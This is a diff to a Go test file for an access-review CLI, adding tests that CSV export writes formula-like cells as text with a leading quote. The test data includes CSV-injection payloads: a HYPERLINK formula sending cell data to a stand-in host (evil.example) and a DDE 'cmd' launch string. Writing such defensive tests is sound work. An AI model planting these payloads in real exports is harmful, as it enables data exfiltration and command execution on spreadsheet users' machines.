@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -557,6 +558,37 @@ func TestByteSize(t *testing.T) {
 	}
 }
 
+// TestCSVCells: a CSV cell a spreadsheet would read as a formula is
+// written as text, with a leading single quote; every other cell as it is.
+func TestCSVCells(t *testing.T) {
+	tests := []struct{ cell, want string }{
+		{"", ""},
+		{"still sells", "still sells"},
+		{"bob", "bob"},
+		{"2026-11-24T09:00:00Z", "2026-11-24T09:00:00Z"},
+		{"a=b", "a=b"},
+		{`=HYPERLINK("https://evil.example","x")`, `'=HYPERLINK("https://evil.example","x")`},
+		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+	}
+	for _, tt := range tests {
+		var b bytes.Buffer
+		if err := writeCSV(&b, [][]string{{"user", tt.cell}}); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
+			t.Fatalf("writeCSV of %q wrote %q: %v", tt.cell, b.String(), err)
+		}
+		if got := rows[0][1]; got != tt.want {
+			t.Errorf("writeCSV of %q: the cell reads %q, want %q", tt.cell, got, tt.want)
+		}
+	}
+}
+
 // TestRequests walks access requests through authzctl: bob asks for the
 // requestable data_exporter role, cannot approve it himself, alice (his
 // manager) approves it for less time, and the grant shows in whocan and
@@ -616,7 +648,8 @@ func TestRequests(t *testing.T) {
 }
 
 // TestReviews runs an access review from the command line: start, a
-// reviewer's items, keep and revoke, the CSV record, close.
+// reviewer's items, keep and revoke, the CSV record (where a comment
+// cannot become a spreadsheet formula), close.
 func TestReviews(t *testing.T) {
 	addr := serve(t)
 	r := authzctl(t, addr, "reviews", "start", "--name", "Q4", "--roles", "sales_rep", "--default", "keep", "--deadline", "336h", "--reason", "quarterly review")
@@ -630,7 +663,25 @@ func TestReviews(t *testing.T) {
 	authzctl(t, addr, "audit", "changes", "--target", "grant/erin/").
 		expect(t, exitOK, []string{"ALSO", "review.decide", "review/" + id + "/erin/sales_rep", "moved to marketing", "grant/erin/sales_rep"}, nil)
 	authzctl(t, addr, "reviews", "keep", id, "bob", "sales_rep", "--actor", "alice", "--reason", "still sells").expect(t, exitOK, []string{"kept sales_rep of bob"}, nil)
-	authzctl(t, addr, "reviews", "items", id, "--csv").expect(t, exitOK, []string{"user,role,reviewer,last_used,unused", "erin,sales_rep,frank,", "revoke,frank,", "moved to marketing"}, nil)
+	// A comment a spreadsheet would run as a formula.
+	const hostile = `=HYPERLINK("https://evil.example/?d="&A2,"details")`
+	authzctl(t, addr, "reviews", "keep", id, "mallory", "sales_rep", "--actor", "frank", "--reason", hostile).expect(t, exitOK, []string{"kept sales_rep of mallory"}, nil)
+	r = authzctl(t, addr, "reviews", "items", id, "--csv")
+	r.expect(t, exitOK, []string{"user,role,reviewer,last_used,unused", "erin,sales_rep,frank,", "revoke,frank,", "moved to marketing"}, nil)
+	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
+	if err != nil {
+		t.Fatalf("the CSV record: %v\n%s", err, r.stdout)
+	}
+	comments := map[string]string{}
+	for _, row := range rows[1:] {
+		comments[row[0]] = row[len(row)-1]
+	}
+	if got := comments["mallory"]; got != "'"+hostile {
+		t.Errorf("mallory's comment is written as %q, want %q: a spreadsheet would run it", got, "'"+hostile)
+	}
+	if got := comments["bob"]; got != "still sells" {
+		t.Errorf("bob's comment is written as %q", got)
+	}
 	authzctl(t, addr, "reviews", "close", id, "--reason", "done").expect(t, exitOK, []string{"closed " + id + ": 3 items: 2 kept, 1 revoked, 0 undecided"}, nil)
 	authzctl(t, addr, "reviews").expect(t, exitOK, []string{id, "Q4", "closed"}, nil)
 	authzctl(t, addr, "reviews", "start", "--name", "x", "--default", "maybe", "--deadline", "1h", "--reason", "r").expect(t, exitUsage, nil, []string{"keep or revoke"})
